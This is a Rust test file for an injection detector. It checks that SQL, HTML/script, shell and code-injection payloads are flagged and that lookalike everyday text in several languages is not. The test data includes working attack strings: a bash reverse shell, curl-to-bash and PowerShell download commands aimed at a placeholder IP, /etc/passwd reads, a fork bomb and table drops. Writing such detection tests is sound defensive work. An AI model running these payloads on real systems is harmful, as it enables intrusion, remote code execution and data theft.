//! What the tokenisers name, and what they leave alone: hostile constructs and the innocent texts that resemble them.

mod injected;
mod joined;

use super::shape::{Construct, Shape};
use super::sql::SqlLexer;
use super::{code, html, shell, sql};
use crate::normalise::decode::{Kind, normalise_into};

fn decoded(value: &str) -> Vec<u8> {
    let (mut out, mut pending) = (Vec::new(), Vec::new());
    normalise_into(value.as_bytes(), Kind::Plain, &mut out, &mut pending);
    out
}

fn sql_words(value: &str) -> String {
    let mut shape = Shape::default();
    SqlLexer::default().read(&decoded(value), false, &mut shape);
    let mut words = Vec::new();
    shape.write_words(&mut words);
    String::from_utf8(words).unwrap()
}

fn html_words(value: &str) -> String {
    let mut shape = Shape::default();
    html::read(&decoded(value), false, &mut shape);
    let mut words = Vec::new();
    shape.write_words(&mut words);
    String::from_utf8(words).unwrap()
}

fn shell_words(value: &str) -> String {
    let mut shape = Shape::default();
    shell::read(&decoded(value), shell::Place::Value, &mut shape);
    let mut words = Vec::new();
    shape.write_words(&mut words);
    String::from_utf8(words).unwrap()
}

fn code_words(value: &str) -> String {
    let mut shape = Shape::default();
    code::read(&decoded(value), false, &mut shape);
    let mut words = Vec::new();
    shape.write_words(&mut words);
    String::from_utf8(words).unwrap()
}

fn has(words: &str, word: &str) -> bool {
    words.split(' ').any(|found| found == word)
}

#[test]
fn every_construct_has_a_distinct_word_and_no_word_contains_likely() {
    fn check<C: Construct>() {
        let mut words: Vec<_> = C::ALL.iter().map(|construct| construct.word()).collect();
        assert!(words.len() <= 64, "the set has 64 bits");
        assert_eq!(words.iter().filter(|word| word.contains("likely")).count(), 1);
        words.sort_unstable();
        words.dedup();
        assert_eq!(words.len(), C::ALL.len());
    }
    check::<sql::Construct>();
    check::<html::Construct>();
    check::<shell::Construct>();
    check::<code::Construct>();
}

#[test]
fn statements_smuggled_into_values_are_accused() {
    for (value, word) in [
        ("1 union select 1,2,3", "union-select"),
        ("1' UNION/**/ALL/**/SELECT null,null-- -", "union-select"),
        ("-1) union (select user(),2)#", "union-select"),
        ("' or 1=1 -- ", "tautology"),
        ("1 or 1=1", "tautology"),
        ("x' or 'a'='a", "tautology"),
        ("\" or \"\"=\"", "tautology"),
        ("1 and 5>2", "tautology"),
        ("admin'--", "break-comment"),
        ("admin' #", "break-comment"),
        ("1; drop table users", "stacked-query"),
        ("1;waitfor delay '0:0:5'--", "stacked-query"),
        ("1' and sleep(5) and '1'='1", "boolean-call"),
        ("1 and (select count(*) from information_schema.tables)>0", "subquery"),
        ("1 and extractvalue(1,concat(0x7e,version()))", "error-function"),
        ("1' order by 10-- ", "clause-number"),
        ("1' and substring(user(),1,1)='a", "boolean-call"),
        ("'||(select password from users)||'", "subquery"),
        ("1 union all select load_file('/etc/passwd')", "file-function"),
        ("1 /*!50000union*/ /*!50000select*/ 1,2", "union-select"),
    ] {
        let words = sql_words(value);
        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn sentences_in_three_languages_are_not_statements() {
    for value in [
        "l'union fait la force",
        "l'Union européenne et l'ordre du jour",
        "1=0&2=0&3=7&4=7",
        "what is an execute master's degree? - x",
        "d'or et d'argent",
        "l'or, l'argent",
        "select a good book from the library",
        "credit union select committee",
        "student union: select and order by 12 may",
        "est-ce que 1 ou 1=1 ?",
        "rock 'n' roll",
        "O'Reilly or O'Brien",
        "the cat's and the dog's",
        "prix 12,50 € -- livraison gratuite",
        "qu'est-ce qu'on attend -- encore ?",
        "drop the table and update your set",
        "how to delete from list in python",
        "insert into the slot",
        "c# or f#",
        "¿cuál es el valor de l'hospitalet o 'casa'?",
        "1 or 2 rooms",
        "black and white",
        "rooms and 2 beds",
        "where is the union",
        "like a rolling stone",
        "group by age; order online",
        "(a) or (b)",
        "a=b and c=d",
        "6' 2\" and 5' 11\"",
        "'tis the season",
        "union (labour) selected",
        "having fun",
        "case when he comes then we go",
        "python sleep(5)",
    ] {
        let words = sql_words(value);
        assert!(!has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn markup_that_runs_is_accused() {
    for (value, word) in [
        ("<script>alert(1)</script>", "script-tag"),
        ("<ScRiPt/x>", "script-tag"),
        ("\"><svg/onload=alert(1)>", "event-handler"),
        ("<img src=x onerror=alert(1)>", "event-handler"),
        ("\" onmouseover=\"alert(1)", "attribute-handler"),
        ("' autofocus onfocus=alert(1) x='", "attribute-handler"),
        ("javascript:alert(1)", "script-uri"),
        ("java\nscript:alert(1)", "script-uri"),
        ("<a href=\"jav&#x09;ascript:alert(1)\">", "script-uri"),
        ("<iframe src=//example.org>", "loading-tag"),
        ("';alert(1)//", "script-break"),
        ("<meta http-equiv=refresh content=0>", "loading-tag"),
        ("data:text/html;base64,PHNjcmlwdD4", "script-uri"),
        ("{{constructor.constructor('alert(1)')()}}", "constructor-chain"),
        ("[][(![]+[])[+[]]+([![]]+[][[]])]", "symbol-script"),
        ("<div style=\"width:expression(alert(1))\">", "style-script"),
        ("%3Cscript%3E", "script-tag"),
        ("self['ale'+'rt'](1)", "computed-call"),
        ("top[/al/.source+/ert/.source](1)", "computed-call"),
        ("[8].find(alert)", "passed-call"),
    ] {
        let words = html_words(value);
        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn texts_about_markup_and_plain_formatting_are_not_accused() {
    for value in [
        "a < b and c > d",
        "<b>bold</b> and <i>it</i>",
        "<p>Bonjour</p>",
        "<a href=\"https://example.org/\">here</a>",
        "I <3 you",
        "someone <someone@example.org>",
        "JavaScript: The Good Parts",
        "javascript:void(0)",
        "how to use document.cookie",
        "what is an onclick = handler",
        "python print(x)",
        "fonction alert() en javascript",
        "12:30 on monday",
        "https://example.org/a?b=(c)",
        "window[0] and parent[id]",
        "la liste content['fr'] (texte)",
    ] {
        let words = html_words(value);
        assert!(!has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn command_lines_are_accused() {
    for (value, word) in [
        ("127.0.0.1;whoami", "separated-command"),
        ("127.0.0.1|w\\get http://192.0.2.1/x", "taken-apart"),
        ("8.8.8.8; c''at /x", "taken-apart"),
        ("a;/???/c?t /x", "wildcard-path"),
        ("{cat,/etc/passwd}", "brace-command"),
        ("cat$IFS/x;ls -la", "field-separator"),
        ("() { :;}; echo x", "function-import"),
        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "reverse-shell"),
        ("for /l %a in (1,1,2) do ver", "windows-loop"),
        ("if not defined n set n=1", "windows-condition"),
        ("\"&ping -n 1 192.0.2.1&rem ", "windows-remark"),
        ("powershell -nop -c x; iex(new-object net.webclient)", "power-shell"),
        ("$(cat /x)", "substitution"),
        ("curl http://192.0.2.1/x | bash", "piped-shell"),
        ("';rm x #", "commented-command"),
        ("'echo A$((1+2))'", "shell-sum"),
        ("/usr/bin/id", "command-path"),
        ("$(hostname -f)", "expansion"),
        ("$[2+2]", "expansion"),
        ("${a:-b}", "expansion"),
        ("<(name)", "expansion"),
        ("/e[t]c/x", "character-class"),
        (":(){ :|:& };:", "fork-bomb"),
        ("!-1!-2", "history-call"),
        ("~+2", "tilde-folder"),
        ("alias a=b", "alias-definition"),
        ("x;.shell id", "database-shell"),
        ("ls -la /srv", "whole-command"),
        ("ping -c 4 example.org", "whole-command"),
        ("cat -n /var/log/x", "whole-command"),
        ("net user x y /add", "whole-command"),
        ("dir c:\\", "whole-command"),
        ("> /tmp/x", "file-redirection"),
        ("$0<<<'id'", "expansion"),
        ("uname >q123 #", "commented-command"),
        ("1&net user", "separated-word"),
        ("'i'p a", "taken-apart"),
    ] {
        let words = shell_words(value);
        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn talk_of_commands_is_no_command_line() {
    for value in [
        "rm -rf node_modules",
        "ping pong",
        "top -10 des ventes",
        "date 2016-02-13",
        "find us",
        "net user experience",
        "cat /chats/noirs",
        "sort - prix",
        "ls -la | sort",
        "l'ls et d'at",
        "chats; chiens; more",
        "how to edit /etc/fstab",
        "rock'n'roll & co",
        "/search/handmade/art/print?search_query=14",
        "it was if exist a word",
        "a heroine; more than that",
        "dog|cat|bird",
        "echo $PATH",
        "/* commentaire */",
        "what if a = b",
        "$('.menu')",
        "$(100)",
        "/blog/[slug]",
        "hop!-3",
        "alias bob",
        "x=>(y)",
        "50 | top 10",
    ] {
        let words = shell_words(value);
        assert!(!has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn program_code_is_accused() {
    for (value, word) in [
        ("<?php echo 1;", "php-tag"),
        ("$_GET[0]", "php-input"),
        ("${'a'}(11)", "variable-call"),
        ("auto_prepend_file = /x", "php-setting"),
        ("system('id');", "dangerous-call"),
        ("exec /*x*/ ('id')", "hidden-call"),
        ("strip_tags()", "whole-call"),
        ("process.env.HOME", "script-inside"),
        ("while(!0);", "endless-loop"),
        ("console.log(1)", "script-console"),
        ("$1:constructor:constructor", "component-reference"),
        ("java.lang.Runtime", "java-class"),
        ("${7*7}", "bracket-expression"),
        ("__import__('os')", "python-inside"),
        ("@{[system 'id']}", "perl-interpolation"),
        ("%x(id)", "ruby-inside"),
        ("<% if true %>", "server-tag"),
        ("wscript.shell", "windows-object"),
        ("(sy.(st).em)('uname');", "variable-call"),
        ("(['system'])[0]('uname');", "variable-call"),
        ("stream_get_contents($h)", "library-call"),
        ("constructor [ \"prototype\" ]", "prototype-path"),
    ] {
        let words = code_words(value);
        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn talk_of_programs_is_no_code() {
    for value in [
        "printf() in C",
        "System.out.println()",
        "new Date() javascript",
        "${variable} in bash",
        "100$ (ou 90)",
        "startswith(Name,'a')",
        "f(x) = sin(x)/x",
        "array_map() vs foreach",
        "<b>50% (environ)</b>",
        "{\"a\":{\"b\":[1,2]}}",
        "fonction(s) et date(s)",
        "(nouveau)(occasion)",
        "art. 4(a)(1);",
        "array_map() vs foreach",
    ] {
        let words = code_words(value);
        assert!(!has(&words, "likely"), "{value}: {words}");
    }
}

#[test]
fn values_that_are_nothing_but_an_expression_are_accused_and_questions_for_everything_are_not() {
    for value in [
        "concat(0x7e,version())",
        "substring(@@version,1,1)=5",
        "@@datadir",
        "'a'='a'",
        "5 rlike 5",
        "union/**/select",
        "select user()",
    ] {
        assert!(has(&sql_words(value), "likely"), "{value}: {}", sql_words(value));
    }
    for value in ["1=1", "version()", "count(*)", "5 > 3", "@@home", "union select committee", "\"a\""] {
        assert!(!has(&sql_words(value), "likely"), "{value}: {}", sql_words(value));
    }
    for value in ["top['alert'](1)", "String.fromCharCode(88)", "fetch('//x')"] {
        assert!(has(&html_words(value), "likely"), "{value}: {}", html_words(value));
    }
    assert!(has(&code_words("(\"system\")(\"id\")"), "likely"));
    assert!(!has(&code_words("(\"bonjour\")(\"madame\")"), "likely"));
}

#[test]
fn json_in_statements_is_accused_and_json_is_not() {
    for value in ["x' or data->>'$.a'='x", "'{\"a\":1}'::jsonb <@ '{}'::jsonb", "json_extract('{}','$.a')", "xor 'a' ="]
    {
        assert!(has(&sql_words(value), "likely"), "{value}: {}", sql_words(value));
    }
    for value in ["{\"a\":\"{}\"}", "json_encode()", "a -> b", "d'or recette < 455", "l'or à > 10"] {
        assert!(!has(&sql_words(value), "likely"), "{value}: {}", sql_words(value));
    }
}

#[test]
fn a_header_is_a_command_line_where_no_program_names_itself_so() {
    fn likely(value: &str) -> bool {
        let mut shape = Shape::default();
        shell::read(&decoded(value), shell::Place::Header, &mut shape);
        shape.contains(shell::Construct::Likely)
    }
    for value in ["cat /srv/notes.txt", "whoami", "uname -a", "Mozilla/5.0;wget http://192.0.2.1/x", "$(id)"] {
        assert!(likely(value), "{value}");
    }
    for value in [
        "curl/8.5.0",
        "Wget/1.21.4 (linux-gnu)",
        "php",
        "python-requests/2.31",
        "Mozilla/5.0 (compatible; Docker; curl)",
        "Mozilla/5.0 (X11; Linux x86_64; rv:52.0)",
        "Links (2.8; Linux)",
    ] {
        assert!(!likely(value), "{value}");
    }
}

#[test]
fn a_value_that_is_one_statement_is_code_and_talk_about_it_is_not() {
    for (value, word) in [
        ("open('x')", "system-statement"),
        ("fork();", "system-statement"),
        ("import os", "system-statement"),
        ("from subprocess import *", "system-statement"),
        ("system \"id\"", "system-statement"),
        ("open(F,\"id|\")", "system-statement"),
        ("{7*7}", "brace-sum"),
        ("{{=6*'7'}}", "brace-sum"),
        ("'sys'.'tem'", "joined-name"),
        ("$f='pas'. 'sth' .'ru'", "joined-name"),
        ("(system)('id')", "variable-call"),
        ("print(`id`)", "system-statement"),
        ("<cfexecute name=\"x\">", "server-tag"),
    ] {
        let words = code_words(value);
        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
    }
    for value in [
        "open(door)",
        "import os in python",
        "import operating costs",
        "from os to sys",
        "system \"solar\"",
        "exec \"bonjour\"",
        "{1,2}",
        "{2*x}",
        "'bon'.'jour'",
        "a.b + 'c'",
        "(bonjour) (madame)",
        "read(book)",
    ] {
        assert!(!has(&code_words(value), "likely"), "{value}: {}", code_words(value));
    }
}

#[test]
fn a_separator_and_one_command_is_an_injection_and_a_list_is_not() {
    for (value, word) in [
        (";env;", "only-command"),
        ("| net view", "only-command"),
        ("&& sleep 5", "only-command"),
        ("127.0.0.1|dir", "only-command"),
        ("1;ls ", "only-command"),
        (";id\\n", "only-command"),
        ("a=i;b=d;$a$b", "assigned-call"),
        ("cmd/c\"set\"", "windows-shell"),
        ("%programfiles:~10,-5%", "expansion"),
        ("rev<<<di", "expansion"),
        ("`ping 192.0.2.1`", "substitution"),
        ("sleep 5", "whole-command"),
    ] {
        let words = shell_words(value);
        assert!(has(&words, word) && has(&words, "likely"), "{value}: {words}");
    }
    for value in [
        "12|id",
        "12|top 10",
        "; et puis",
        "| suite",
        "&amp",
        "a=1;b=2",
        "prix;$prix",
        "<<<<<<< head",
        "sleep well",
        "12|24",
        "c:\\new",
    ] {
        assert!(!has(&shell_words(value), "likely"), "{value}: {}", shell_words(value));
    }
}

#[test]
fn a_path_is_a_program_only_where_programs_are() {
    for value in ["../../etc/passwd", "/etc/passwd", "/var/log/mail", "/home/marie/php"] {
        assert!(!has(&shell_words(value), "leading-command"), "{value}: {}", shell_words(value));
    }
    for value in ["/usr/bin/id", ";./wget x", "w''hoami", "1;c$@at+/et$@c/pas$@swd", ";who"] {
        assert!(has(&shell_words(value), "likely"), "{value}: {}", shell_words(value));
    }
}

#[test]
fn a_command_line_is_accused_where_it_was_injected_and_not_where_it_was_searched_for() {
    fn likely(value: &str, free_text: bool) -> bool {
        let mut shape = Shape::default();
        let place = if free_text { shell::Place::Text } else { shell::Place::Value };
        shell::read(&decoded(value), place, &mut shape);
        shape.contains(shell::Construct::Likely)
    }
    assert!(!likely("curl -o x https://example.org/a", true));
    assert!(!likely("bonjour\n\nls -la /tmp", true));
    assert!(!likely("find my phone", false));
    assert!(likely("curl -o x https://example.org/a", false));
    assert!(!likely("ping -c 4 example.org", true));
    assert!(!likely("g'i't", true));
    assert!(likely("c'a't /etc/passwd", true));
    assert!(likely("x;curl -o x https://example.org/a", true));
    assert!(likely("\"&del q1&rem", true));
}
